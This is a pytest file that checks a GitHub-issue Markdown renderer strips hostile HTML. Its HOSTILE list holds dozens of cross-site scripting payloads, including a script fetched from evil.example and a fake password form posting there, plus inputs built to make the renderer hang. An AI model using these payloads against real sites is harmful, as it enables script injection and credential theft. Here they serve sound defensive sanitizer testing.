"""Issue text is hostile; it is shown as GitHub shows it all the same."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest.rendering import markdown
from ingest.rendering.markdown import ATTRIBUTES, CACHED_MOST, TAGS, render_markdown
from tests.simulation import examples

OURS = {"button": {"type", "class", "aria-label", "aria-pressed", "data-src", "data-frame", "data-alt", "data-width"}}
OURS |= {"table": {"tabindex"}}
OURS |= {
    "pre": {"tabindex", "class"},
    "details": {"class", "open"},
    "span": {"class", "id", "data-emoji"},
    "p": {"class", "align"},
}
OURS |= {
    "div": {"class", "data-language", "align"},
    "a": {"href", "title", "target", "rel", "class", "id", "aria-label"},
}
OURS |= {"input": {"type", "disabled", "checked", "aria-label"}}
OURS |= {f"h{level}": {"class", "align"} for level in range(2, 7)}
VOID = {"br", "hr", "img", "input", "wbr"}
CLASSES = re.compile(
    r"code|code-bar|code-wrap|code-fold|as-it-is|muted unformatted|remote-image(-alt|-host)?|[a-z]{1,3}\d?|"
    r"emoji|formula|(drawn|footnote-ref|footnote-back|footnotes-title) muted|"
    r"level-[1-6]|markdown-alert markdown-alert-(note|tip|important|warning|caution)|markdown-alert-title"
)


def _render(text: str, repository: str) -> str:
    return markdown._render(text, repository)[0]


class Reader(HTMLParser):
    """Fails on any tag, attribute, class or address that must not come out, and on tags that do not close."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS | {"button"}, tag
        assert tag != "img", "an image that nobody clicked"
        for name, value in attrs:
            assert name in OURS.get(tag, set()) | ATTRIBUTES.get(tag, set()), (tag, name)
            if name == "class":
                assert CLASSES.fullmatch(value or ""), value
            if name in {"href", "data-src"}:
                own = re.fullmatch(r"#fn(ref)?(-[0-9a-f]+)+", value or "") and tag == "a"
                assert own or re.match(r"(https?://|mailto:)", value or "", re.IGNORECASE), value
            if name == "id":
                assert re.fullmatch(r"fn(ref)?(-[0-9a-f]+)+", value or ""), value
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open, tag
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment came through")


def safe(text: str) -> str:
    html = _render(text, "owner/name")
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.open == []
    return html


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=data:text/html;base64,PHNjcmlwdD4=>",
    '<img src="https://a.example/x.png" onload=alert(1) style="position:fixed">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>1</script>'></iframe>",
    "<object data=x></object><embed src=x><applet></applet>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<input type=text autofocus onfocus=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<style>body{display:none}</style><link rel=stylesheet href=x><base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a> <a href='/sign-out/'>y</a> <a href='#content'>z</a>",
    "[x](javascript:alert(1)) [x](<java\tscript:alert(1)>) [x](vbscript:x) [x](data:text/html,x) ![x](javascript:1)",
    '![x](https://a.example/"onerror=alert(1)) !["onerror=alert(1)](https://a.example/)',
    '[x](https://a.example/ "\\" onmouseover=alert(1)")',
    '<a title="<img src=">Z</a><a title=" >"> x" onmouseover="alert(1)</a>',
    '<abbr title="<img src="x" onerror=alert(1)>">x</abbr>',
    '<p>q <a title="\n\n```\ncode " onmouseover="alert(1)\n```\n">x</a>',
    '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<div class='masthead' id=content style='position:fixed;inset:0' hx-post=/me/ data-dialog=x>over everything</div>",
    "<p class=markdown-alert-title onclick=alert(1)>x</p>",
    "</div></div></article></main><h1>out</h1>",
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "<!--[if IE]><script>alert(1)</script><![endif]--> <!-- hidden --> <![CDATA[x]]> <?php x ?>",
    "<video src=x onerror=alert(1)></video><audio autoplay src=x></audio><picture><source srcset=x></picture>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<p title='x' lang=en dir=rtl tabindex=1 accesskey=s contenteditable>x</p>",
    "<table><tr><td><details><summary><b></table><script>x</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    'https://a.example/<script>alert(1)</script> www.a.example/"onclick=alert(1)',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800 a lone half of a pair",
    "[a]: javascript:alert(1)\n[a]",
    "| <script>x</script> | <img src=x onerror=1> |\n|---|---|\n| ![a](https://b.example/c) | <svg> |",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "- [ ] <input type=image src=x onerror=alert(1)>",
    "[^1] <b id=fn-1 class=emoji data-emoji=x>[^1]\n\n[^1]: <script>alert(1)</script> [^1]\n\n<a href='#fn-1'>",
    "$<script>alert(1)</script>$ $$\n<img src=x onerror=alert(1)>\n$$ :tada: <i title=':bug:'>:bug:</i>",
    "```mermaid\n<script>alert(1)</script>\n```",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through(text: str) -> None:
    html = safe(text)
    assert not re.search(r"<(script|svg|style|iframe|object|form|meta|link|base|video)", html, re.IGNORECASE)


@given(st.lists(st.sampled_from([*HOSTILE, "```\n", "\n\n", "> ", "- ", '"', "<", ">", "`", "<p>", "</p>", "[", "]("])))
@settings(max_examples=examples(150), deadline=None)
def test_nothing_hostile_comes_through_however_it_is_combined(parts: list[str]) -> None:
    safe("".join(parts))


@given(st.text(max_size=300))
@settings(max_examples=examples(200), deadline=None)
def test_any_text_can_be_rendered(text: str) -> None:
    safe(text)


@pytest.mark.parametrize(
    "text",
    ["[" * 30_000, ">" * 50_000, "<div>" * 60_000, "*a" * 30_000, "![a" * 20_000, "<b>" * 50_000, "`" * 50_000 + "a",
     "\n".join(" " * n + "- a" for n in range(1_000)), "|a" * 2_000 + "\n" + "|-" * 2_000 + "\n" + "|a" * 2_000,
     "<a href='x" * 10_000, "<table><tr><td>" * 1_500, "a/" * 50_000 + "#1", "a-" * 50_000, "~~~\n\n" * 10_000],
)  # fmt: skip
@pytest.mark.timeout(60)  # Far more than any needs; a cost that grows with the square would need minutes.
def test_no_text_keeps_the_renderer_busy(text: str) -> None:
    _render(text, "owner/name")


def test_a_log_of_118_000_characters_is_folded_with_a_count_of_its_lines() -> None:
    line = "(Worker rank=3) ERROR 09-01 10:00:00 engine.py:12] Traceback in <module> at 0x7f3c: `x` *args #12 @home\n"
    text = "### Fault\n\n```python\n" + line * 500 + "```\n\n" + line * 600
    assert len(text) > 100_000
    assert "500 lines of python" in safe(text)


def links(text: str, repository: str = "owner/name") -> list[tuple[str, str]]:
    html = _render(text, repository)
    found = []
    for tag, label in re.findall(r"<a ([^>]*)>(.*?)</a>", html):
        attributes = dict(re.findall(r'([a-z]+)="([^"]*)"', tag))
        assert (attributes["target"], attributes["rel"]) == ("_blank", "nofollow noopener noreferrer")
        found.append((attributes["href"], label))
    return found


SITE = "https://github.com"
SHA = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see #12.", [(f"{SITE}/owner/name/issues/12", "#12")]),
        ("(GH-7)", [(f"{SITE}/owner/name/issues/7", "GH-7")]),
        ("other/one#3", [(f"{SITE}/other/one/issues/3", "other/one#3")]),
        ("@some-one, thanks @b.", [(f"{SITE}/some-one", "@some-one"), (f"{SITE}/b", "@b")]),
        (f"in {SHA}", [(f"{SITE}/owner/name/commit/{SHA}", "0123456")]),
        (f"{SITE}/owner/name/issues/9", [(f"{SITE}/owner/name/issues/9", "#9")]),
        (f"{SITE}/a/b/pull/9#issuecomment-1", [(f"{SITE}/a/b/pull/9#issuecomment-1", "a/b#9 (comment)")]),
        ("[words #1](https://a.example)", [("https://a.example", "words #1")]),
        ("https://a.example/x?y=1#2", [("https://a.example/x?y=1#2", "https://a.example/x?y=1#2")]),
        ("<a href='https://a.example'>#1</a>", [("https://a.example", "#1")]),
        ("`#1 @me`", []),
        ("a#1 #0 #1a train.py me@home.example.py @torch.compile @scope/name &#35;", None),
    ],
)
def test_references_are_linked_as_github_links_them(text: str, expected: list[tuple[str, str]] | None) -> None:
    if expected is None:
        assert not [link for link in links(text) if "github.com" in link[0]]
    else:
        assert links(text) == expected


def test_references_point_to_the_host_of_the_repository() -> None:
    assert links("#5 @me", "git.example.org/owner/name") == [
        ("https://git.example.org/owner/name/issues/5", "#5"),
        ("https://git.example.org/me", "@me"),
    ]
    assert links("#5", "") == []


def test_a_remote_image_waits_for_a_click_and_says_from_where() -> None:
    html = safe('![a "chart"](https://images.example.org/x.png?a=1&b=2)')
    assert "<img" not in html
    assert 'data-src="https://images.example.org/x.png?a=1&amp;b=2"' in html
    assert "show from images.example.org" in html
    assert 'data-alt="a &quot;chart&quot;"' in html


def test_an_image_in_html_waits_too_and_keeps_its_width() -> None:
    html = safe('<img width="640" alt="log" src="https://images.example.org/x.png">')
    assert 'data-width="640"' in html
    assert "<img" not in html


def test_code_is_highlighted_by_class_alone() -> None:
    html = safe("```python\ndef main(): pass\n```")
    assert '<span class="k">def</span>' in html
    assert "style=" not in html


@pytest.mark.parametrize(("language", "unit"), [("rst", "`a < "), ("perl", "s{"), ("python", " \n"), ("bash", "$(")])
def test_code_made_to_be_slow_is_shown_without_colors(language: str, unit: str) -> None:
    began = time.thread_time()
    html = safe(f"```{language}\n{unit * (7_900 // len(unit))}\n```\n" * 7)
    assert time.thread_time() - began < 3  # it was 25 s and more for a block
    assert html.count('data-language="') == 7


def test_code_of_an_unknown_language_is_shown_as_it_is() -> None:
    assert "a &lt; b" in safe("```no-such-language\na < b\n```")


@pytest.mark.parametrize(("n", "folded"), [(40, False), (41, True)])
def test_code_over_40_lines_folds_with_a_count(n: int, folded: bool) -> None:
    html = safe("```\n" + "line\n" * n + "```")
    assert ("<details" in html) is folded
    assert (f"{n} lines" in html) is folded


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\nb", "<br>"),
        ("~~a~~", "<s>a</s>"),
        ("| a |\n|--:|\n| 1 |", '<td align="right">1</td>'),
        ("<details><summary>s</summary>\n\n**b**\n\n</details>", "<strong>b</strong>"),
        ("<kbd>x</kbd> H<sub>2</sub>O x<sup>2</sup>", "<kbd>x</kbd> H<sub>2</sub>O x<sup>2</sup>"),
        ("> [!WARNING]\n> a", '<div class="markdown-alert markdown-alert-warning">'),
        ("## a", '<h2 class="level-2">a</h2>'),
        ("a <!-- b --> c", "a  c"),
        ("a :tada: 🎉", "🎉"),
    ],
)
def test_it_reads_the_markdown_of_github(text: str, expected: str) -> None:
    assert expected in safe(text)


def test_tasks_are_boxes_that_nobody_can_tick() -> None:
    done, todo = re.findall(r"<input ([^>]*)>", safe("- [x] done\n- [ ] todo\n\n<input type=text name=q>"))[:2]
    assert set(done.split()) == {'checked=""', 'disabled=""', 'type="checkbox"', 'aria-label="task"'}
    assert set(todo.split()) == {'disabled=""', 'type="checkbox"', 'aria-label="task"'}


def test_headings_come_below_the_title_of_the_page_without_a_gap() -> None:
    html = safe("### a\n\n##### b\n\n# c")
    assert re.findall(r"<(h\d) class=.level-(\d)", html) == [("h3", "3"), ("h4", "5"), ("h2", "1")]


@pytest.mark.django_db
def words(html: str) -> str:
    """The text of a page, as it can be selected."""
    return re.sub(r"<[^>]*>", "", html)


@pytest.mark.parametrize(
    ("text", "emoji"),
    [
        (":tada: done :+1:", "🎉👍"),
        ("<div>\n:white_check_mark:\n</div>", "✅"),
        ("[:rocket:](https://x.org)", "🚀"),
        ("`:tada:` and\n\n```\n:tada:\n```\n", ""),
        ("12:100x:33 std::vector::iterator :not_one_of_them:", ""),
    ],
)
def test_a_shortcode_is_shown_as_its_emoji_and_stays_the_text(text: str, emoji: str) -> None:
    html = safe(text)
    assert "".join(re.findall(r'data-emoji="([^"]+)"', html)) == emoji
    assert all(code in words(html) for code in re.findall(r":[a-z+0-9_]+:", text))


def test_footnotes_stand_at_the_end_with_ways_there_and_back() -> None:
    html = safe("One[^a], two[^b], again[^a], none[^c].\n\n[^b]: Second\n[^a]: First *note*\n[^d]: Not used\n\nEnd")
    assert re.findall(r'id="fnref-\w+-(\d-\d)" href="#fn-\w+-(\d)"', html) == [("1-1", "1"), ("2-1", "2"), ("1-2", "1")]
    notes = html[html.index("<ol>") :]
    assert notes.index("First <em>note</em>") < notes.index("Second")
    assert len(re.findall(r'href="#fnref-', notes)) == 3
    assert "none[^c]." in words(html)
    assert "Not used" in words(html[: html.index("<ol>")]), "a note that nothing refers to stays where it was"


@pytest.mark.parametrize("text", ["$x_1 + y_1$", "$`a*b*c`$", "$$\n\\sum_{i} *x*\n$$", "($a_b_c$)", "$5\\$x_a_$"])
def test_a_formula_is_shown_as_it_was_typed_with_a_link(text: str) -> None:
    html = markdown.render_markdown(text, "o/r", address="https://github.com/o/r/issues/1")
    assert words(html).strip() == text
    assert 'href="https://github.com/o/r/issues/1"' in html
    assert "<em>" not in html
    assert "href" not in render_markdown(text, "o/r")


@pytest.mark.parametrize("text", ["$5 and $6", "$HOME/$USER", "a$b$c", "$ x $", "\\$a\\$", "US$5-$6", "$(ls) $PATH"])
def test_amounts_and_shell_variables_are_no_formulas(text: str) -> None:
    assert "formula" not in safe(text)


@pytest.mark.parametrize(("language", "what"), [("mermaid", "diagram"), ("math", "formula"), ("python", "")])
def test_a_diagram_is_shown_as_its_source_with_a_link(language: str, what: str) -> None:
    html = markdown.render_markdown(f"```{language}\nA-->B\n```", "o/r", address="https://github.com/o/r/issues/1")
    assert "A--&gt;B" in html or "A</span>" in html
    assert ("See it at GitHub" in html) is (f"GitHub draws this {what}." in html) is bool(what)


def test_a_long_text_comes_from_the_cache_the_second_time(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "a *b* #1\n\n" * 500
    first = render_markdown(text, "owner/name")
    monkeypatch.setattr("ingest.rendering.markdown._render", lambda *_: pytest.fail("rendered again"))
    assert render_markdown(text, "owner/name") == first


def test_very_long_html_is_not_kept_in_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    kept: list[int] = []
    monkeypatch.setattr("ingest.rendering.markdown.cache.set", lambda key, value, *_: kept.append(len(value[0])))
    text = "<" * (CACHED_MOST // 4 - 100)
    assert len(render_markdown(text, "owner/name")) <= CACHED_MOST and len(kept) == 1
    assert len(render_markdown(text + "<" * 400, "owner/name")) > CACHED_MOST and len(kept) == 1


@pytest.mark.django_db
def test_the_cache_tells_repositories_apart() -> None:
    text = "#1 " * 1_000
    assert render_markdown(text, "a/b") != render_markdown(text, "c/d")


@pytest.mark.django_db
def test_the_end_of_an_address_does_not_pass_for_the_beginning_of_a_text() -> None:
    text = "Not a crash.\n" + "word " * 500
    address = "https://github.com/a/b/issues/2"
    first, rest = text.split("\n", 1)
    render_markdown(rest, "a/b", address=f"{address}\n{first}")
    assert "Not a crash." in render_markdown(text, "a/b", address=address)
